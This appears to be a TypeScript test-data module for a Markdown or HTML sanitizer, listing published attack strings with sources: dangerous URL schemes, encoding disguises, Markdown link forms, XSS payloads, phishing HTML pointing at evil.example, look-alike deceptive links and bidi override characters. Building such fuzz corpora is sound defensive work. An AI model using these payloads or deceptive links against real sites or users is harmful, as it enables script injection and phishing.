/**
 * Tricks that are published for texts which become links or HTML, each with where it is described. They are
 * written down here anew, and crossed with each other: forms of a link with addresses, and addresses with disguises.
 */

/** Schemes that run or read something. OWASP, "XSS Filter Evasion Cheat Sheet" and "Cross Site Scripting Prevention"; RFC 2397 (data), RFC 3986. */
export const runningSchemes = [
  'javascript:alert(1)',
  'javascript://good.example/%0aalert(1)',
  'javascript:/*good.example*/alert(1)',
  'javascript:void(document.title=1)',
  'vbscript:msgbox(1)',
  'livescript:x',
  'mocha:x',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'blob:https://good.example/1',
  'filesystem:https://good.example/x',
  'file:///etc/passwd',
  'view-source:javascript:alert(1)',
  'jar:https://good.example/x!/y',
  'feed:javascript:alert(1)',
  'about:config',
  'chrome://browser/content/',
  'resource://gre/',
  'moz-extension://0/options.html',
  'ms-settings:x',
  'intent://x#Intent;end',
  'tel:1',
  'sms:1?body=x',
  'magnet:?xt=x',
  'ws://good.example/',
  'ftp://good.example/',
] as const;

/**
 * Disguises of a scheme: case, characters that browsers pass over (WHATWG URL: tab, newline, leading controls and spaces),
 * entities of HTML (with and without an end, with zeros, in hex), percent, escapes of Markdown, invisible ones, full width.
 */
export const disguises: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => address.toUpperCase(),
  (address) => address.replaceAll(/[a-z]/g, (c, at: number) => (at % 2 ? c.toUpperCase() : c)),
  (address) => ` ${address}`,
  (address) => `\u0001${address}`,
  (address) => `\u00a0${address}`,
  (address) => `\u200b${address}`,
  (address) => `${address.slice(0, 3)}\t${address.slice(3)}`,
  (address) => `${address.slice(0, 3)}\n${address.slice(3)}`,
  (address) => `${address.slice(0, 3)}\r${address.slice(3)}`,
  (address) => `${address.slice(0, 3)}\u0000${address.slice(3)}`,
  (address) => `${address.slice(0, 3)}\u00ad${address.slice(3)}`,
  (address) => `${address.slice(0, 3)}&Tab;${address.slice(3)}`,
  (address) => `${address.slice(0, 3)}&NewLine;${address.slice(3)}`,
  (address) => address.replace(':', '&colon;'),
  (address) => address.replace(':', '&#58;'),
  (address) => address.replace(':', '&#0000058'),
  (address) => address.replace(':', '&#x3A;'),
  (address) => address.replace(':', '%3A'),
  (address) => address.replace(':', '\\:'),
  (address) => address.replace(':', '\uff1a'),
  (address) => address.replaceAll(/[a-z]/g, (c) => `&#${c.codePointAt(0)};`),
  (address) => address.replaceAll(/[a-z]/g, (c) => `&#x${c.codePointAt(0)?.toString(16)};`),
  (address) => `<${address}>`,
];

/** Forms that make a link, or nearly. CommonMark 0.31 (links, images, autolinks, references), GitHub Flavored Markdown (extended autolinks). */
export const linkForms: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `[click](${address} "title")`,
  (address) => `[click]( ${address} 'a"b')`,
  (address) => `[click\n](${address})`,
  (address) => `[a [b](${address}) c](${address})`,
  (address) => `[![x](${address})](${address})`,
  (address) => `![x](${address})`,
  (address) => `![x](x"onerror="${address})`,
  (address) => `<${address}>`,
  (address) => address,
  (address) => `**${address}**`,
  (address) => `[click][1]\n\n[1]: ${address}`,
  (address) => `[click]\n\n[click]: <${address}> 'x'`,
  (address) => `> [click](${address})`,
  (address) => `- [ ] [click](${address})`,
  (address) => `| [click](${address}) |\n|---|\n`,
  (address) => `[click]\\(${address})`,
  (address) => `[\`click](${address})\``,
  (address) => `[click](${address}\n`,
  (address) => `\`\`\`\n[click](${address})\n`,
];

/** HTML in all its strange forms. OWASP (as above); "HTML5 Security Cheatsheet" (html5sec.org); CommonMark 0.31 (HTML blocks, raw HTML). */
export const htmls: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt/x>alert(1)</sCrIpT >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=`x`onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x>',
  '<math><a xlink:href=javascript:alert(1)>x',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html,x">',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example";</style>',
  '<form action=https://evil.example><input name=petname><button>Send',
  '<details open ontoggle=alert(1)>',
  '<a href="javascript:alert(1)" target=_self>x</a>',
  '<a href=https://evil.example>https://good.example</a>',
  '<div style="position:fixed;inset:0">Your passphrase, please</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)>">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '<x contenteditable onblur=alert(1)>lose focus!',
  '</p><script>alert(1)</script><p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
];

/**
 * Links whose words say another place than they lead to. RFC 3986 section 7.6 (user information), UTS #39 and UTR #36
 * (look-alikes, among them the Cyrillic “apple” of 2017), WHATWG URL (backslashes, full width, percent), RFC 6068 (mailto fields).
 */
export const lies: readonly { readonly words: string; readonly address: string }[] = [
  { words: 'https://good.example', address: 'https://evil.example/' },
  { words: 'good.example', address: 'https://evil.example/?good.example' },
  { words: 'https://good.example', address: 'https://good.example.evil.example/' },
  { words: 'https://good.example', address: 'https://good.example@evil.example/' },
  { words: 'https://good.example/login', address: 'https://good.example%2flogin@evil.example/' },
  { words: 'https://good.example', address: 'https://good.example:443@evil.example/' },
  { words: 'https://good.example', address: 'https:evil.example' },
  { words: 'https://good.example', address: 'https:\\\\evil.example\\' },
  { words: 'https://good.example', address: 'https://\t/evil.example' },
  { words: 'https://good.example', address: 'https://evil%2eexample/' },
  { words: 'https://good.example', address: 'https://\uff45\uff56\uff49\uff4c.example/' },
  { words: 'https://good.example', address: 'https://evil\u3002example/' },
  { words: 'https://good.example', address: 'https://good.example\u2024evil.example/' },
  {
    words: '\u0430\u0440\u0440\u04cf\u0435.com',
    address: 'https://\u0430\u0440\u0440\u04cf\u0435.com/',
  },
  { words: 'apple.com', address: 'https://xn--80ak6aa92e.com/' },
  { words: 'good.example', address: 'https://go\u043ed.example/' },
  { words: 'good.example', address: 'https://good.example\u200b.evil.example/' },
  { words: 'g\u200bood.example', address: 'https://evil.example/' },
  { words: 'https://good.example', address: 'http://2130706433/' },
  { words: 'https://good.example', address: 'http://0x7f.1/' },
  { words: 'https://good.example', address: 'http://[::1]/' },
  { words: 'g', address: 'https://good.example/' },
  { words: 'https://', address: 'https://evil.example/' },
  { words: ' ', address: 'https://evil.example/' },
  { words: 'elpmaxe.live', address: 'https://evil.example/' },
  { words: `${'a'.repeat(56)}.onion`, address: `http://${'a'.repeat(55)}b.onion/` },
  { words: `${'a'.repeat(10)}….onion`, address: `http://${'a'.repeat(56)}.onion/` },
  { words: 'bob@good.example', address: 'mailto:bob@evil.example' },
];

/** Characters that turn the order of text around. Unicode UAX #9; "Trojan Source" (CVE-2021-42574). */
export const turningCharacters = '\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069';
